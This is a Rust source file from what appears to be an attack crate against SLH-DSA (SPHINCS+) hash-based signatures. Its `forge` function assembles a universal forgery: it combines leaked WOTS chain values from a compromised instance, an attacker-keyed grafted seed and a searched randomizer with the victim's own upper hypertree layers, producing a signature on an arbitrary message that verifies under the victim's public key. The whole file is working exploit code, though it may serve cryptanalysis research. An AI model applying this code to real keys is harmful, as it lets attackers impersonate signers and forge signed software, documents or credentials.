//! Assembles a universal forgery from a compromised instance, a grafted
//! seed, and a sought randomizer: attacker-keyed FORS and XMSS layers below
//! the instance, the instance's leaked chain values advanced onto the
//! grafted root digits at its layer, and the victim's own upper layers
//! verbatim.

use alloc::vec::Vec;

use crate::adrs::AdrsType;
use crate::fors::{fors_pk_from_sig, fors_sign};
use crate::graft::GraftResult;
use crate::identify::CompromisedInstance;
use crate::params::ParameterSet;
use crate::seek::PathSeekResult;
use crate::slh::{digest_split, ht_adrs, layer_address, path_prefix, SlhSignature};
use crate::wots::{chain, chain_adrs, wots_digits, WotsSignature};
use crate::xmss::{xmss_sign, XmssSignature};
use crate::RangeError;

#[derive(Clone, Debug, PartialEq)]
pub enum ForgeError {
    /// The randomizer does not route through the grafted subtree.
    PathMismatch,
    /// The grafted seed does not reproduce the grafted root (mismatched
    /// artifacts).
    GraftMismatch,
    /// A grafted-root digit fell below its exposed minimum; unreachable for
    /// results produced by `graft_search`.
    DominanceViolated { chain: usize },
    Range(RangeError),
}

impl core::fmt::Display for ForgeError {
    fn fmt(&self, f: &mut core::fmt::Formatter<'_>) -> core::fmt::Result {
        match self {
            ForgeError::PathMismatch => write!(f, "randomizer does not route through the graft"),
            ForgeError::GraftMismatch => write!(f, "grafted seed does not reproduce the root"),
            ForgeError::DominanceViolated { chain } => {
                write!(f, "grafted digit below exposed minimum on chain {chain}")
            }
            ForgeError::Range(e) => write!(f, "{e}"),
        }
    }
}

impl core::error::Error for ForgeError {}

impl From<RangeError> for ForgeError {
    fn from(e: RangeError) -> Self {
        ForgeError::Range(e)
    }
}

/// Builds a signature on `message` that verifies under the victim's public
/// key, using only leaked material and attacker-generated keys.
pub fn forge(
    params: &ParameterSet,
    message: &[u8],
    instance: &CompromisedInstance,
    graft: &GraftResult,
    seek: &PathSeekResult,
    pk_seed: &[u8],
    pk_root: &[u8],
) -> Result<SlhSignature, ForgeError> {
    let layer_w = instance.address.layer;
    let split = digest_split(params, &seek.randomizer, pk_seed, pk_root, message);
    if path_prefix(params, &split, layer_w) != graft.grafted_index {
        return Err(ForgeError::PathMismatch);
    }

    // Attacker-keyed FORS at the address the randomizer dictates.
    let mut fadrs = ht_adrs(0, split.tree_index);
    fadrs.set_type_and_clear(AdrsType::ForsTree);
    fadrs.set_keypair(split.leaf_index);
    let fors_sig = fors_sign(params, &split.fors_indices, &graft.sk_seed, pk_seed, &fadrs)?;
    let mut value = fors_pk_from_sig(params, &fors_sig, &split.fors_indices, pk_seed, &fadrs)?;

    // Attacker-keyed XMSS layers strictly below the compromised instance.
    let mut ht_sigs: Vec<XmssSignature> = Vec::with_capacity(params.d as usize);
    for layer in 0..layer_w {
        let (tree, leaf) = layer_address(params, &split, layer);
        let adrs = ht_adrs(layer, tree);
        let (sig, root) = xmss_sign(
            params,
            value.as_bytes(),
            &graft.sk_seed,
            leaf as u64,
            pk_seed,
            &adrs,
        )?;
        ht_sigs.push(sig);
        value = root;
    }
    // `value` is now what the compromised instance must sign: the grafted
    // XMSS root for layer_w >= 1, or the grafted FORS key for layer_w == 0.
    if value != graft.root {
        return Err(ForgeError::GraftMismatch);
    }

    // The compromised layer, signed with leaked chain values.
    let digits = wots_digits(params, value.as_bytes())?;
    let instance_adrs = ht_adrs(layer_w, instance.address.tree);
    let mut nodes = Vec::with_capacity(params.ell);
    for (i, &digit) in digits.iter().enumerate() {
        let from = instance.exposed_min[i] as u32;
        let to = digit as u32;
        if to < from {
            return Err(ForgeError::DominanceViolated { chain: i });
        }
        nodes.push(chain(
            params,
            instance.exposed_nodes[i],
            from,
            to - from,
            pk_seed,
            chain_adrs(&instance_adrs, instance.address.keypair, i as u32),
        )?);
    }
    ht_sigs.push(XmssSignature {
        wots_sig: WotsSignature { nodes },
        auth_path: instance.auth_path.clone(),
    });

    // Victim layers above the instance, verbatim from the reference record.
    ht_sigs.extend(instance.upper_layers.iter().cloned());
    debug_assert_eq!(ht_sigs.len(), params.d as usize);

    Ok(SlhSignature {
        randomizer: seek.randomizer.clone(),
        fors_sig,
        ht_sigs,
    })
}
